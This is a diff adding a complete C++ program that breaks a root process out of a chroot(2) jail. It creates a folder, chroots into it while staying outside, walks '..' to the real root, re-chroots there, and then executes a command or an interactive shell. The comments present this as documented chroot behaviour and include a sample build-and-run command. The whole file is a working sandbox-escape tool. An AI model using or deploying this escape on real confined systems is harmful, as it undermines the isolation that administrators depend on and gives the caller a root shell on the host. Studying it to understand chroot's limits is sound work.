@@ -1,0 +1,74 @@
+// A way out of chroot(2), for root. It is no flaw that somebody forgot to mend,
+// but what chroot says of itself in its manual page:
+//
+//     make escape && sudo chroot build/rootfs /escape ls /home
+//
+// chroot changes where the names of this process begin, and nothing else. So
+// the process may stay where it is, outside of its own root, and from there it
+// goes up. In a root that pivot_root(2) has made, there is no more "up".
+
+#include <err.h>
+#include <stdlib.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+namespace {
+
+constexpr char kFolder[] = "/escape-me";
+
+struct stat Look(const char* directory) {
+  struct stat attributes = {};
+  if (stat(directory, &attributes) != 0) {
+    err(EXIT_FAILURE, "look at %s", directory);
+  }
+  return attributes;
+}
+
+bool IsSame(const struct stat& one, const struct stat& other) {
+  return one.st_dev == other.st_dev && one.st_ino == other.st_ino;
+}
+
+// #region escape
+// Makes a folder below us the root, while we stay above it.
+void StepOutOfTheRoot() {
+  if (mkdir(kFolder, 0700) != 0 || chdir("/") != 0 || chroot(kFolder) != 0) {
+    err(EXIT_FAILURE, "make a folder the root");
+  }
+  // Still there by this name: our working directory is above it.
+  rmdir(kFolder + 1);
+}
+
+// ".." ends at the process's own root, and we have left that aside. So it goes
+// up to the place that has nothing above it.
+void WalkToTheTop() {
+  struct stat here = Look(".");
+  struct stat below;
+  do {
+    below = here;
+    if (chdir("..") != 0) {
+      err(EXIT_FAILURE, "go up");
+    }
+    here = Look(".");
+  } while (!IsSame(here, below));
+}
+// #endregion escape
+
+}  // namespace
+
+int main(int argc, char* argv[]) {
+  const struct stat cage = Look("/");
+  StepOutOfTheRoot();
+  WalkToTheTop();
+  if (chroot(".") != 0) {
+    err(EXIT_FAILURE, "make the top the root");
+  }
+  if (IsSame(Look("/"), cage)) {
+    errx(EXIT_FAILURE, "no way out: above this root there is nothing");
+  }
+  if (argc > 1) {
+    execvp(argv[1], argv + 1);
+    err(EXIT_FAILURE, "execute %s", argv[1]);
+  }
+  execlp("sh", "sh", nullptr);
+  err(EXIT_FAILURE, "execute sh");
+}
